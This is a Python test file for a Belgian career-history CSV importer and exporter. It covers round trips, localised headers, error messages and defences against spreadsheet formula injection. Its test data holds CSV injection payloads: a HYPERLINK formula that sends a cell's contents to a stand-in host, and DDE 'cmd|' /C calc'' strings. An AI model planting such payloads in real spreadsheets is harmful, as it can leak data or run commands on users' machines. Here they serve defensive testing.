"""Career CSV: read, write, validation like case files, round trip, spreadsheet safety."""
from __future__ import annotations

from datetime import date

import pytest
from hypothesis import given, settings, strategies as st, HealthCheck

from art60kit.caseio import case_from_dict, case_to_dict
from art60kit.errors import InputError
from art60kit.imports.career_csv import career_csv_text, read_career_csv, write_career_csv
from art60kit.planner import plan

CASE = {
    "case_id": "csv-roundtrip",
    "person": {"birth_date": "1991-06-15"},
    "contract": {"start": "2025-09-01"},
    "career": [
        {"kind": "work", "start": "2023-01-02", "end": "2023-06-30", "employer": "Interim Hainaut",
         "days_per_week": 5, "weekly_hours": 38, "full_time_hours": 38},
        {"kind": "work", "start": "2024-02-05", "end": "2024-03-29", "hours": 152, "full_time_hours": 38},
        {"kind": "work", "start": "2024-05-06", "end": "2024-06-14", "days": 30, "days_per_week": 5},
        {"kind": "paid_holiday", "start": "2024-07-01", "end": "2024-07-12", "days": 9.5, "days_per_week": 4.5},
        {"kind": "child_care", "start": "2019-01-01", "end": "2021-12-31", "child_birth_date": "2018-12-01"},
        {"kind": "self_employed_main", "start": "2017-01-01", "end": "2018-06-30", "note": "café, Liège"},
    ],
}


#: Cells a spreadsheet would run as formulas (OWASP "CSV injection"), and line breaks.
INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")', "+cmd|' /C calc'!A0",
              "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab first", "\rCR first",
              "'=already quoted", "''+twice", "it's fine", "=1+1\n=2+2"]


def test_excel_export_neutralises_formulas_and_reads_back_identically(tmp_path):
    lines = [{"kind": "work", "start": "2024-01-01", "end": "2024-01-31", "days": 20, "days_per_week": 5,
              "employer": v, "note": v} for v in INJECTIONS]
    f = tmp_path / "excel.csv"
    write_career_csv(lines, f, excel=True)
    raw = f.read_bytes().decode("utf-8-sig")
    import csv
    import io
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=";"))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert '"=1+1' not in raw and "'=1+1\n=2+2" in raw  # multi-line cell quoted, whole
    back = read_career_csv(f).career()
    assert [(l["employer"], l["note"]) for l in back] == [(v, v) for v in INJECTIONS]


def test_unterminated_quote_is_reported_and_swallows_nothing(tmp_path):
    f = tmp_path / "q.csv"
    f.write_text("kind,start,end,note\n"
                 'work,2024-01-01,2024-01-31,"opened and never closed\n'
                 "work,2024-02-01,2024-02-30,\n"
                 "work,2024-03-01,2024-03-31,ok\n")
    with pytest.raises(InputError) as e:
        read_career_csv(f)
    msgs = [str(p) for p in e.value.problems]
    assert any(m.startswith(f"{f}: line 2: note:") and "quote" in m for m in msgs), msgs
    # The next row is read as a row: its own bad date is reported.
    assert any(m.startswith(f"{f}: line 3: end:") for m in msgs), msgs
    g = tmp_path / "q2.csv"
    g.write_text("kind,start,end,note\n"
                 'work,2024-01-01,2024-01-31,"opened here\n'
                 'work,2024-02-01,2024-02-28,closed here"\n')
    with pytest.raises(InputError) as e:
        read_career_csv(g)
    assert any(str(p).startswith(f"{g}: line 2: note:") for p in e.value.problems)


def test_read_belgian_excel_export(tmp_path):
    f = tmp_path / "dolsis.csv"
    f.write_bytes(
        "Type;Du;Au;Employeur;Régime;Q;S;Heures;Jours;Remarque\n"
        "travail;02/01/2023;30/06/2023;Intérim Hainaut;5;38;38;;;copié de Dolsis\n"
        "work;05/02/2024;29/03/2024;;;;38;152,5;;\n"
        "\n"
        "vacances;01/07/2024;12/07/2024;;5;;;;9,5;\n".encode("cp1252"))
    imp = read_career_csv(f)
    a, b, c = imp.lines
    assert a == {"kind": "work", "start": "2023-01-02", "end": "2023-06-30", "employer": "Intérim Hainaut",
                 "days_per_week": 5.0, "weekly_hours": 38.0, "full_time_hours": 38.0, "note": "copié de Dolsis",
                 "source": "csv", "source_ref": "dolsis.csv line 2"}
    assert b["hours"] == 152.5 and b["source_ref"] == "dolsis.csv line 3"
    assert c["kind"] == "paid_holiday" and c["source_ref"] == "dolsis.csv line 5"
    assert any("Windows-1252" in p.message for p in imp.problems)


def test_errors_name_file_line_and_field_and_import_nothing(tmp_path):
    f = tmp_path / "bad.csv"
    f.write_text("kind,start,end,days,days_per_week\n"
                 "work,2024-01-01,2024-03-31,60,5\n"
                 "wrok,2024-04-01,2024-06-30,60,5\n"
                 "work,2024-07-01,2024-06-30,60,5\n"
                 "work,31/02/2024,2024-09-30,sixty,5\n")
    with pytest.raises(InputError) as e:
        read_career_csv(f)
    msgs = [str(p) for p in e.value.problems]
    assert f"{f}: line 3: kind: unknown kind 'wrok'" in msgs[0]
    assert any(m.startswith(f"{f}: line 4: end: ends before it starts") for m in msgs)
    assert any(m.startswith(f"{f}: line 5: start: not a valid date: '31/02/2024'") for m in msgs)
    assert any(m.startswith(f"{f}: line 5: days: not a number: 'sixty'") for m in msgs)
    assert msgs[-1].endswith("nothing imported")


def test_header_problems(tmp_path):
    with pytest.raises(InputError, match="missing column 'end'"):
        read_career_csv(b"kind,start\nwork,2024-01-01\n", name="h.csv")
    with pytest.raises(InputError, match="empty file"):
        read_career_csv(b"", name="e.csv")
    imp = read_career_csv(b"kind,start,end,colour\nwork,2024-01-01,2024-01-31,blue\n", name="c.csv")
    assert any("unknown column 'colour'" in p.message for p in imp.problems)


def test_extra_cells_are_an_error():
    with pytest.raises(InputError, match="decimal comma in a comma-separated file"):
        read_career_csv(b"kind,start,end,hours,full_time_hours\nwork,2024-01-01,2024-03-31,152,5,38\n")


def test_dutch_header_and_source_column():
    imp = read_career_csv("Soort\tVan\tTot\tWerkgever\tUren\tBron\n"
                          "arbeid\t2024-01-01\t2024-03-31\tOCMW Gent\t300\tmanual\n".encode())
    (l,) = imp.lines
    assert (l["kind"], l["employer"], l["hours"], l["source"]) == ("work", "OCMW Gent", 300.0, "manual")
    assert "source_ref" not in l


def test_write_then_read_gives_the_same_lines(tmp_path):
    lines = case_from_dict(CASE).career
    for kw in ({}, {"excel": True}):
        f = tmp_path / f"out{len(kw)}.csv"
        write_career_csv(lines, f, **kw)
        back = case_from_dict({**CASE, "career": read_career_csv(f).career()}).career
        assert [(l.kind, l.start, l.end, l.employer, l.days_per_week, l.weekly_hours, l.full_time_hours,
                 l.hours, l.days, l.child_birth_date, l.note) for l in back] == \
               [(l.kind, l.start, l.end, l.employer, l.days_per_week, l.weekly_hours, l.full_time_hours,
                 l.hours, l.days, l.child_birth_date, l.note) for l in lines]


def test_round_trip_case_csv_case_gives_the_same_plan(tmp_path):
    case = case_from_dict(CASE)
    f = tmp_path / "career.csv"
    write_career_csv(case.career, f)
    data = case_to_dict(case)
    data["career"] = read_career_csv(f).career()
    back = case_from_dict(data)
    a, b = plan(case).to_dict(), plan(back).to_dict()
    for k in ("end_date", "days_to_work", "past_days_in_window", "window", "rules", "days_required"):
        assert a[k] == b[k], k


_kinds = st.sampled_from(["work", "paid_holiday", "temporary_unemployment", "sickness_indemnified",
                          "unpaid_absence", "self_employed_main"])


@st.composite
def _line(draw):
    start = draw(st.dates(date(2018, 1, 1), date(2025, 6, 1)))
    end = start + (draw(st.integers(0, 200)) * (date(2000, 1, 2) - date(2000, 1, 1)))
    span = (end - start).days + 1
    d = {"kind": draw(_kinds), "start": start.isoformat(), "end": end.isoformat()}
    measure = draw(st.sampled_from(["regime", "hours", "days", "none"]))
    if measure == "regime":
        s = draw(st.sampled_from([38, 36, 40]))
        d.update(days_per_week=draw(st.sampled_from([4, 5, 4.5, 6])), full_time_hours=s,
                 weekly_hours=draw(st.floats(1, s).map(lambda x: round(x, 2))))
    # at most full time in the calendar weeks the line meets (the loader's bound)
    weeks = (end.toordinal() - end.weekday() - (start.toordinal() - start.weekday())) // 7 + 1
    if measure == "hours":
        d.update(hours=round(draw(st.floats(0, min(span * 8, 38 * weeks))), 4), full_time_hours=38)
    elif measure == "days":
        d.update(days=round(draw(st.floats(0, min(span, 5 * weeks))), 4), days_per_week=5)
    if draw(st.booleans()):
        d["employer"] = draw(st.sampled_from(["CPAS de Namur", "OCMW, Gent", 'Say "hi" sprl', "0200000191",
                                              *INJECTIONS]))
    if draw(st.booleans()):
        d["note"] = draw(st.sampled_from(INJECTIONS + ["plain note", "deux\nlignes", "a\r\nb"]))
    return d


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(_line(), min_size=0, max_size=6), st.sampled_from([(",", "."), (";", ","), ("\t", ".")]))
def test_csv_round_trip_property(lines, fmt):
    delimiter, decimal = fmt
    text = career_csv_text(lines, delimiter=delimiter, decimal=decimal)
    back = read_career_csv(text.encode(), name="p.csv").career()
    strip = lambda l: {k: v for k, v in l.items() if k not in ("source", "source_ref")}  # noqa: E731
    norm = lambda l: {k: (float(v) if isinstance(v, (int, float)) else v) for k, v in l.items()}  # noqa: E731
    assert [norm(strip(l)) for l in back] == [norm(l) for l in lines]


def test_text_in_number_and_date_columns_is_neutralised_too():
    text = career_csv_text([{"kind": "work", "start": "=1+1", "end": "2024-01-31", "days": "-2+3+cmd|' /C calc'!A0",
                             "days_per_week": "unknown"}])
    row = text.splitlines()[1]
    assert row.startswith("work,'=1+1,2024-01-31,") and ",unknown," in row and "'-2+3+cmd" in row
